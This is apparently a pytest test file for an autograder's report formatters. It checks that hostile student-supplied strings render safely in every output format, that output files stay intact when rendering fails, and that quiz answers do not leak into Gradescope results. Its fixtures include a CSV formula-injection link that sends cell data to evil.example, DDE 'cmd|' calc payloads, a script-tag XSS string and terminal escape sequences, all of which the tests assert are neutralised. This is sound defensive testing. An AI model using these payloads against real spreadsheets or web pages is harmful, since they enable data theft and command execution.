"""Every report stays valid whatever a submission puts in it, and feedback is no oracle.

Strings a student controls (exception messages, printed output, file and folder
names) reach every output format: each must render, parse back and keep its
items; ``--output`` never leaves a broken file; a CSV cell is never a formula.
With the default feedback policy, Gradescope's results never explain a quiz answer.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path
from types import SimpleNamespace

import pytest
from click.testing import CliRunner

from autograder import cli
from autograder.course import FeedbackPolicy
from autograder.model import ExerciseResult, Report, Status
from autograder.reporters.gradescope import render_gradescope
from autograder.reporters.json_report import render_json, report_dict, report_from_dict
from autograder.reporters.junit import render_junit
from autograder.reporters.safe_text import csv_cell, safe_text
from autograder.reporters.table import grades_csv, render_markdown
from autograder.reporters.text import render_text

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [
    "lone \udcff surrogate from a non-UTF-8 file name",
    "high \ud800 and a pair \ud83d\ude00 joined",
    "NUL \x00 and C0 \x01\x08\x0b\x0c\x0e\x1f controls",
    "terminal \x1b[2J\x1b]0;owned\x07 escapes and C1 \x9b31m \x7f",
    "XML non-characters \ufffe \uffff",
    "pipes | in | cells\nand newlines\r\nand CR\r",
    "markup <script>alert(1)</script> & ]]> --> `code`",
    FORMULA,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HUGE = ("x" * 1000 + "\udcff\x00|\n") * 2000  # about 2 MB of hostile text


def _hostile_report() -> Report:
    """One item per hostile string, in its id, feedback, mistakes and hints, plus a huge one."""
    results = [
        ExerciseResult(
            id=f"2.{i % 3 + 1}.{text}",
            score=0.5 if i % 2 else 0.0,
            max_score=1.0,
            status=list(Status)[i % len(Status)],
            mistakes=(text, "relu-on-output"),
            feedback=f"✗ {text}\nexpected {text}",
            hints=(text,),
        )
        for i, text in enumerate(HOSTILE)
    ]
    results.append(ExerciseResult(FORMULA, 0.0, 2.0, Status.ERROR, feedback=HUGE, hints=(HUGE,)))
    results.append(ExerciseResult("2.1.build_mlp", 3.0, 3.0, Status.PASSED, feedback="ok"))
    return Report(results, lang="en", notes=[*HOSTILE, HUGE], protection="none\udcff")


REPORT = _hostile_report()
ITEMS = len(REPORT.exercises)


def _valid_utf8(text: str) -> str:
    text.encode("utf-8")  # raises on a lone surrogate
    return text


def _markdown_rows(text: str) -> int:
    return sum(1 for line in text.splitlines() if line.startswith("| ")) - 1  # minus the header


def _text_rows(text: str) -> int:
    lines = text.splitlines()
    rules = [i for i, line in enumerate(lines) if line and set(line) <= {"-", " "}]
    return rules[1] - rules[0] - 1


def _check_json(text: str) -> None:
    data = json.loads(_valid_utf8(text))
    assert len(data["exercises"]) == ITEMS and len(data["notes"]) == len(REPORT.notes)
    assert data["exercises"][0]["feedback"].startswith("✗ lone \ufffd surrogate")
    assert "\U0001f600" in data["exercises"][1]["id"], "a surrogate pair becomes its character"


def _check_gradescope(text: str) -> None:
    data = json.loads(_valid_utf8(text))
    assert len(data["tests"]) == ITEMS and data["score"] == REPORT.score


def _check_junit(text: str) -> None:
    root = ET.fromstring(_valid_utf8(text).encode("utf-8"))
    assert len(root.findall(".//testcase")) == ITEMS
    failure = root.find(".//testcase/failure")
    assert failure is not None and "\ufffd" in (failure.text or "")


def _check_markdown(text: str) -> None:
    assert _markdown_rows(_valid_utf8(text)) == ITEMS
    rows = [line for line in text.splitlines() if line.startswith("| ")]
    assert all(line.replace("\\|", "").count("|") == 5 for line in rows), "4 cells per row"
    assert "<script>" not in text


def _check_text(text: str) -> None:
    assert _text_rows(_valid_utf8(text)) == ITEMS
    assert "\x1b" not in text and "\x9b" not in text and "\r" not in text


CHECKS = {
    "json": _check_json,
    "gradescope": _check_gradescope,
    "junit": _check_junit,
    "markdown": _check_markdown,
    "text": _check_text,
}
RENDERERS = {
    "json": render_json,
    "gradescope": lambda r: render_gradescope(r, FeedbackPolicy()),
    "junit": render_junit,
    "markdown": render_markdown,
    "text": render_text,
}


@pytest.mark.parametrize("fmt", sorted(RENDERERS))
def test_every_format_renders_hostile_strings_and_parses_back(fmt: str) -> None:
    CHECKS[fmt](RENDERERS[fmt](REPORT))


def test_safe_text_keeps_ordinary_text_and_replaces_what_breaks_formats() -> None:
    ordinary = "第二章 ✓ tab\tnewline\n emoji \U0001f600"
    assert safe_text(ordinary) is ordinary
    assert safe_text("a\udcffb\x00c\ufffe") == "a\ufffdb\ufffdc\ufffd"
    assert safe_text("\ud83d\ude00") == "\U0001f600"


@pytest.mark.parametrize("fmt", sorted(CHECKS))
def test_saved_report_round_trips_through_every_format(tmp_path: Path, fmt: str) -> None:
    saved = tmp_path / "saved.json"
    saved.write_text(render_json(REPORT), encoding="utf-8")
    out = tmp_path / f"out.{fmt}"
    result = CliRunner().invoke(
        cli.main, ["report", str(saved), "--format", fmt, "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    CHECKS[fmt](out.read_text(encoding="utf-8"))
    back = report_from_dict(json.loads(saved.read_text(encoding="utf-8")))
    assert len(back.exercises) == ITEMS and back.score == REPORT.score


def test_a_saved_report_with_escaped_lone_surrogates_still_renders(tmp_path: Path) -> None:
    # json.loads accepts "\udcff" escapes: a report written elsewhere may hold them.
    data = json.loads(json.dumps(report_dict(REPORT)).replace("\\ufffd", "\\udcff"))
    saved = tmp_path / "saved.json"
    saved.write_text(json.dumps(data, ensure_ascii=True), encoding="utf-8")
    for fmt in CHECKS:
        result = CliRunner().invoke(cli.main, ["report", str(saved), "--format", fmt])
        assert result.exit_code == 0, (fmt, result.output[-500:])
        CHECKS[fmt](result.output)


@pytest.mark.parametrize(
    "failure",
    [
        pytest.param(RuntimeError("renderer bug \udcff"), id="renderer-raises"),
        pytest.param("text with a lone \udcff surrogate", id="unencodable-text"),
    ],
)
def test_output_file_is_left_intact_when_rendering_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, failure: object
) -> None:
    saved = tmp_path / "saved.json"
    saved.write_text(render_json(REPORT), encoding="utf-8")
    out = tmp_path / "results" / "report.xml"
    out.parent.mkdir()
    out.write_text("<previous/>\n", encoding="utf-8")

    def broken(*_args: object, **_kwargs: object) -> str:
        if isinstance(failure, Exception):
            raise failure
        return str(failure)

    monkeypatch.setattr(cli, "render", broken)
    result = CliRunner().invoke(
        cli.main, ["report", str(saved), "--format", "junit", "--output", str(out)]
    )
    assert result.exit_code == cli.OutputError.exit_code == 7
    assert "could not be rendered" in result.output and "left as it was" in result.output
    assert out.read_text(encoding="utf-8") == "<previous/>\n"
    assert sorted(p.name for p in out.parent.iterdir()) == ["report.xml"], "no temporary file left"


def test_output_is_replaced_whole_with_the_usual_permissions(tmp_path: Path) -> None:
    saved = tmp_path / "saved.json"
    saved.write_text(render_json(REPORT), encoding="utf-8")
    out = tmp_path / "new" / "report.json"  # a missing folder is created
    old_umask = os.umask(0o027)
    try:
        result = CliRunner().invoke(
            cli.main, ["report", str(saved), "--format", "json", "--output", str(out)]
        )
    finally:
        os.umask(old_umask)
    assert result.exit_code == 0, result.output
    _check_json(out.read_text(encoding="utf-8"))
    assert out.stat().st_mode & 0o777 == 0o640
    assert [p.name for p in out.parent.iterdir()] == ["report.json"]


def test_class_csv_is_formula_safe_and_numbers_stay_numeric() -> None:
    reports = {
        student: {**report_dict(REPORT), "score": -0.5 if i == 0 else 1.25}
        for i, student in enumerate([*HOSTILE, "alice", "-1", "+7"])
    }
    items = [r.id for r in REPORT.exercises]
    text = _valid_utf8(grades_csv(reports, items))
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(reports) and all(len(row) == 4 + len(items) for row in rows)
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for cell in dangerous:
        float(cell)  # only numbers may start that way
    assert "'" + FORMULA in rows[0], "the formula id in the header is text"
    students = [row[0] for row in rows[1:]]
    assert "'" + safe_text(FORMULA) in students and "alice" in students
    assert {"-1", "+7"} <= set(students), "number-like ids are left alone"
    totals = {row[0]: row[1] for row in rows[1:]}
    assert all(float(v) in (-0.5, 1.25) for v in totals.values()), "totals are numbers"
    assert "-0.5" in totals.values(), "a negative number stays a number"
    assert csv_cell(-0.5) == -0.5 and csv_cell(3) == 3 and csv_cell(None) is None


def test_nbgrader_export_cells_are_formula_safe(tmp_path: Path) -> None:
    pytest.importorskip("nbgrader")
    from autograder.nbgrader_ext.export import DetailedCsvExport

    cell = "test_2-1-build_mlp"
    submission = SimpleNamespace(
        score=1.5,
        max_score=3.0,
        notebooks=[
            SimpleNamespace(
                grades=[SimpleNamespace(name=cell, score=1.5, needs_manual_grade=False)],
                comments=[SimpleNamespace(auto_comment="-cmd|' /C calc'!A0\nrest")],
            )
        ],
    )
    gradebook = SimpleNamespace(
        assignments=[
            SimpleNamespace(
                name="ch2", notebooks=[SimpleNamespace(grade_cells=[SimpleNamespace(name=cell)])]
            )
        ],
        students=[SimpleNamespace(id=FORMULA), SimpleNamespace(id="alice")],
        find_submission=lambda _assignment, _student: submission,
    )
    target = tmp_path / "grades.csv"
    DetailedCsvExport(to=str(target)).export(gradebook)
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert [r["student_id"] for r in rows] == ["'" + FORMULA, "alice"]
    assert all(r["notes"].startswith("'-cmd") for r in rows)
    assert all(r["score"] == "1.5" and r["2.1.build_mlp"] == "1.5" for r in rows)


def _explanations() -> list[str]:
    from autograder.graders.kit import quiz_explanations

    return [text[lang] for item, text in quiz_explanations().items() for lang in ("zh", "en")]


def _run_autograder(tmp_path: Path, name: str, course_file: Path | None) -> str:
    """results.json text of the Gradescope ``run_autograder`` script on the sample's 2.1."""
    from autograder.course_build.gradescope import RUN

    root = tmp_path / name
    (root / "submission").mkdir(parents=True)
    shutil.copy(
        ROOT / "samples" / "typical-mistakes" / "s21_basics.py",
        root / "submission" / "s21_basics.py",
    )
    script = root / "run_autograder"
    script.write_text(RUN, encoding="utf-8")
    env = {**os.environ, "AUTOGRADER_ROOT": str(root), "PYTHON": sys.executable}
    env.pop("CH2_COURSE", None)
    if course_file is not None:
        env["CH2_COURSE"] = str(course_file)
    subprocess.run(["bash", str(script)], env=env, cwd=root, check=True, timeout=600)
    return (root / "results" / "results.json").read_text(encoding="utf-8")


@pytest.mark.slow
def test_gradescope_results_with_the_default_policy_explain_no_quiz_answer(
    tmp_path: Path,
) -> None:
    results = _run_autograder(tmp_path, "default", None)
    tests = {t["name"]: t for t in json.loads(results)["tests"]}
    assert tests["2.1.quiz.q1"]["score"] == 1 and tests["2.1.quiz.q3"]["score"] == 0
    assert "正确答案是" not in results and "right answer is" not in results
    leaked = [e[:40] for e in _explanations() if e in results]
    assert not leaked, f"quiz explanations in results.json: {leaked}"

    # The same run with answers revealed does show them: the check above can see a leak.
    base = (ROOT / "course.yml").read_text(encoding="utf-8")
    always = tmp_path / "course.yml"
    always.write_text(base.replace("quiz_answers: after_due", "quiz_answers: always"), "utf-8")
    revealed = _run_autograder(tmp_path, "always", always)
    assert any(e in revealed for e in _explanations())
